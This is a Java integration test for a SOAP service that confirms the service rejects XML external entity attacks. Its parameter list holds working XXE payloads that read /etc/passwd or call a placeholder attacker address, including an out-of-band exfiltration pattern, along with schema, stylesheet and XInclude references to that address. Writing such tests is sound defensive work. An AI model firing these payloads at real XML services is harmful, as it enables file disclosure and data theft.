package uk.gov.dwp.jobmatch.soap.attack;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.Parameter;
import org.junit.jupiter.params.ParameterizedClass;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import uk.gov.dwp.jobmatch.soap.Answer;
import uk.gov.dwp.jobmatch.soap.Door;
import uk.gov.dwp.jobmatch.soap.Message;

/** Attack: XML that has its reader open a file or an address (XXE; CVE-2026-65432, CVE-2026-49875, CVE-2026-44618 in CXF). */
@ExtendWith(Unshaken.class)
@ParameterizedClass
@EnumSource(Door.class)
class ExternalEntityIT {

    @Parameter
    Door door = Door.PARTNER;

    private final Eavesdropper attacker = new Eavesdropper();

    @AfterEach
    void nobody_came_to_the_attackers_server() {
        attacker.close();

        assertEquals(List.of(), attacker.visits());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"ATTACKER\">]>",
                "<!DOCTYPE x [<!ENTITY e PUBLIC \"x\" \"ATTACKER\">]>",
                "<!DOCTYPE x [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]>",
                "<!DOCTYPE x [<!ENTITY % p SYSTEM \"ATTACKER\"> %p; %send;]>",
                "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">",
                "<!DOCTYPE x SYSTEM \"ATTACKER\">",
                "<!DOCTYPE x PUBLIC \"x\" \"ATTACKER\" [<!ENTITY e \"harmless\">]>",
                "<!DOCTYPE x [<!ENTITY e \"harmless\">]>",
                "<!DOCTYPE x>"
            })
    void a_document_type_is_refused_whatever_it_says(String type) {
        Message message = Message.ping(Unshaken.MARK + "&e;").after(type.replace("ATTACKER", attacker.address()));

        Answer answer = door.caller().send(message);

        answer.isRefusal(500, "MALFORMED_XML");
        assertFalse(answer.body().contains("root:"), answer.body());
    }

    @Test
    void a_place_where_a_schema_is_said_to_be_is_not_visited() {
        String where = " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                + " xsi:schemaLocation=\"urn:jobmatch-helpdesk:partner:v1 %1$s urn:x %1$s\""
                + " xsi:noNamespaceSchemaLocation=\"%1$s\"";
        Message message = Message.ping().with("<p:pingRequest", "<p:pingRequest" + where.formatted(attacker.address()));

        Answer answer = door.caller().send(message);

        assertEquals("hello", answer.text("echo"), answer.body());
    }

    @Test
    void nor_is_a_style_sheet_or_an_inclusion() {
        String sheet = "<?xml-stylesheet type=\"text/xsl\" href=\"" + attacker.address() + "\"?>";
        String inclusion =
                "<i:include xmlns:i=\"http://www.w3.org/2001/XInclude\" href=\"" + attacker.address() + "\"/>";

        Answer answer = door.caller().send(Message.ping().after(sheet).under(inclusion));

        assertEquals("hello", answer.text("echo"), answer.body());
    }
}
